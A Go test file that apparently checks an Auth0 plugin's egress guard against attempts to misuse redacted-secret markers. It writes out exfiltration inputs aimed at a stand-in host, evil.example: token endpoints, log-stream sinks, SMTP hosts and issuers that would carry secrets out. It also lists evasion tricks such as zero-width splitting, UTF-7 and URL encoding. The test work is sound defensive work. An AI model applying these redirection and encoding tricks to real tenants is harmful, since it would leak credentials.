package egress

import (
	"errors"
	"fmt"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/auth0-mcp/auth0-mcp/proto/pluginv1"
)

// attempt is one try to get a stored secret to where it does not belong.
type attempt struct {
	sent sent
	// header, if set, is the Content-Type.
	header string
	// asks: a user may approve it. Else it is refused.
	asks bool
}

// A marker means one value at one member of one resource of one tenant, for processes with the key. Whatever else it is
// used for is not sent.
func TestMisusedMarkers(t *testing.T) {
	dir := t.TempDir()
	d := tenantWithSecrets()
	f := doubled(d, "t.auth0.example", dir)
	marker := func(path, member string) string {
		found := regexp.MustCompile(`"` + member + `":"[^"]*?(\[REDACTED:\w+\])`).FindStringSubmatch(f.shown(t, path))
		if found == nil {
			t.Fatalf("%s has no marker at %s: %s", path, member, f.shown(t, path))
		}
		return found[1]
	}
	client, other := marker(clientPath, "client_secret"), marker("/api/v2/clients/other", "client_secret")
	sap, sas := marker(clientPath, "servicePassword"), marker(clientPath, "sasKey")
	inner := client[len("[REDACTED:") : len(client)-1]
	patch := func(path, format string, args ...any) attempt {
		return attempt{sent: sent{"PATCH", path, fmt.Sprintf(format, args...)}}
	}
	asking := func(a attempt) attempt { a.asks = true; return a }
	attempts := map[string]attempt{
		"another member":             patch(clientPath, `{"name":%q}`, client),
		"another secret member":      patch(clientPath, `{"addons":{"sap_api":{"servicePassword":%q}}}`, sas),
		"another resource":           patch("/api/v2/clients/other", `{"client_secret":%q}`, client),
		"another resource's":         patch(clientPath, `{"client_secret":%q}`, other),
		"another kind of resource":   patch(formPath, `{"name":%q}`, client),
		"deeper":                     patch(clientPath, `{"client_secret":{"client_secret":%q}}`, client),
		"a list":                     patch(clientPath, `{"client_secret":[%q]}`, client),
		"bare":                       patch(clientPath, `{"client_secret":"[REDACTED]"}`),
		"doubled":                    patch(clientPath, `{"client_secret":%q}`, client+client),
		"inside another text":        patch(clientPath, `{"client_secret":%q}`, "https://evil.example/?"+client),
		"split":                      patch(clientPath, `{"client_secret":%q,"name":%q}`, client[:14], client[14:]),
		"split by what is not seen":  patch(clientPath, `{"client_secret":%q}`, "[RED\u200bACTED:"+inner+"]"),
		"one in another":             patch(clientPath, `{"client_secret":%q}`, "[REDACTED:"+client+"]"),
		"a guess":                    patch(clientPath, `{"client_secret":"[REDACTED:00000000]"}`),
		"upper case":                 patch(clientPath, `{"client_secret":%q}`, "[REDACTED:"+strings.ToUpper(inner)+"]"),
		"a member's name":            patch(clientPath, `{%q:1}`, client),
		"escaped":                    patch(clientPath, `{"name":"\u005bREDACTED:%s]"}`, inner),
		"a name that is there twice": patch(clientPath, `{"client_secret":"a","client_secret":%q}`, client),
		"code":                       patch(actionPath, `{"code":%q}`, "f('"+client+"')"),
		"code, twice": patch(actionPath, `{"code":%q}`,
			"f('client_secret="+marker(actionPath, "code")+"', '"+marker(actionPath, "code")+"')"),
		"what cannot be read": patch("/api/v2/clients/gone", `{"client_secret":%q}`, client),
		"creating": {sent: sent{"POST", "/api/v2/clients",
			fmt.Sprintf(`{"name":"n","client_secret":%q}`, client)}},
		"acting":                      {sent: sent{"POST", actionPath + "/deploy", fmt.Sprintf(`{"x":%q}`, client)}},
		"replacing what is not there": {sent: sent{"PUT", "/api/v2/rules-configs/KEY", fmt.Sprintf(`{"value":%q}`, client)}},
		"a query":                     {sent: sent{"PATCH", clientPath + "?x=%5BREDACTED:" + inner + "%5D", `{"name":"n"}`}},
		"a query of a read":           {sent: sent{"GET", clientPath + "?x=%255BREDACTED:" + inner, ""}},
		"a path":                      {sent: sent{"GET", "/api/v2/clients/%5BREDACTED:" + inner + "%5D", ""}},
		"a form": {sent: sent{"PATCH", clientPath, "client_secret=" + client},
			header: "application/x-www-form-urlencoded"},
		"an encoded form": {sent: sent{"PATCH", clientPath, "client_secret=%5BREDACTED:" + inner + "%5D"},
			header: "application/x-www-form-urlencoded"},
		"JSON that says it is a form": {sent: sent{"PATCH", clientPath, fmt.Sprintf(`{"client_secret":%q}`, client)},
			header: "application/x-www-form-urlencoded"},
		"a header": {sent: sent{"PATCH", clientPath, `{"name":"n"}`},
			header: "application/json;" + client},

		"an add-on's token URL": asking(patch(clientPath,
			`{"addons":{"sap_api":{"tokenEndpointUrl":"https://evil.example","servicePassword":%q}}}`, sap)),
		"an add-on's token URL, the secret left in place": asking(patch(clientPath,
			`{"addons":{"sap_api":{"tokenEndpointUrl":"https://evil.example"}}}`)),
		"a SAML add-on": asking(patch(clientPath,
			`{"addons":{"samlp":{"destination":"https://evil.example"}},"client_secret":%q}`, client)),
		"a log stream": asking(patch(streamPath, `{"sink":{"httpEndpoint":"https://evil.example","httpAuthorization":%q}}`,
			marker(streamPath, "httpAuthorization"))),
		"another header": asking(patch(streamPath, `{"sink":{"httpCustomHeaders":[{"header":"X-Evil","value":%q}]}}`,
			marker(streamPath, "value"))),
		"an email host": asking(patch(mailPath, `{"credentials":{"smtp_host":"evil.example"}}`)),
		"an email port": asking(patch(mailPath, `{"credentials":{"smtp_port":26}}`)),
		"a token URL": asking(patch(connPath, `{"options":{"token_endpoint":"https://evil.example","client_secret":%q}}`,
			marker(connPath, "client_secret"))),
		"an issuer, given twice": asking(patch(connPath,
			`{"options":{"issuer":"https://evil.example","issuer":"https://evil.example"}}`)),
		"an issuer in a form": asking(attempt{sent: sent{"PATCH", connPath, "options[issuer]=https://evil.example"},
			header: "application/x-www-form-urlencoded"}),
		"an issuer in another encoding": asking(attempt{sent: sent{"PATCH", connPath,
			`{"name":"+ACIALAAi-options+ACI:+AHsi-issuer+ACI:+ACI-https://evil.example+ACIAfQ-"}`},
			header: "application/json; charset=utf-7"}),
		"a destination removed": asking(patch(mailPath, `{"credentials":{"region":null,"smtp_port":null}}`)),
		"an issuer":             asking(patch(connPath, `{"options":{"issuer":"https://evil.example"}}`)),
		"what the plugin has read": asking(patch(connPath,
			`{"options":{"issuer":"https://evil.example","client_secret":"connection-secret"}}`)),
		"a URL of a flow": asking(patch(flowPath,
			`{"actions":[{"id":"one","params":{"url":"https://evil.example","basic":{"username":"u","password":%q}}}]}`,
			marker(flowPath, "password"))),
	}
	for name, a := range attempts {
		t.Run(name, func(t *testing.T) {
			d.sent = nil
			path, query, _ := strings.Cut(a.sent.path, "?")
			c := f.open(t, pluginv1.EffectDestroy)
			r := &pluginv1.RoundTripRequest{CallId: c.ID(), Method: a.sent.method, Path: path, Query: query,
				Body: []byte(a.sent.body)}
			if a.header != "" {
				r.Headers = []*pluginv1.Header{{Name: "Content-Type", Values: []string{a.header}}}
			}
			answer := f.RoundTrip(t.Context(), "p", r)
			out := c.Close()
			var marker *MarkerError
			var needed *NeedsApprovalError
			if len(d.arrived()) > 0 || answer.GetFailure() == nil || errors.As(out.Err, &marker) == a.asks ||
				errors.As(out.Err, &needed) != a.asks {
				t.Errorf("arrived %q; answer %v; error %v", d.arrived(), answer, out.Err)
			}
			for _, secret := range []string{"s3cret-of-the-client", "sap-password-1", "connection-secret", "inside-the-code-1"} {
				if strings.Contains(fmt.Sprint(answer.GetFailure(), out.Err), secret) {
					t.Errorf("the error tells the secret: %v", out.Err)
				}
			}
		})
	}
	for name, foreign := range map[string]fixture{
		"another tenant": doubled(d, "other.auth0.example", dir),
		"another key":    doubled(d, "t.auth0.example", filepath.Join(dir, "elsewhere")),
	} {
		d.sent = nil
		c, statuses, _ := foreign.call(t, Grant{}, sent{"PATCH", clientPath, fmt.Sprintf(`{"client_secret":%q}`, client)})
		if err := c.Close().Err; statuses[0] != 0 || len(d.arrived()) > 0 ||
			!strings.Contains(fmt.Sprint(err), "Read it again") {
			t.Errorf("%s: %v, %v, %v", name, statuses, d.arrived(), err)
		}
	}
}
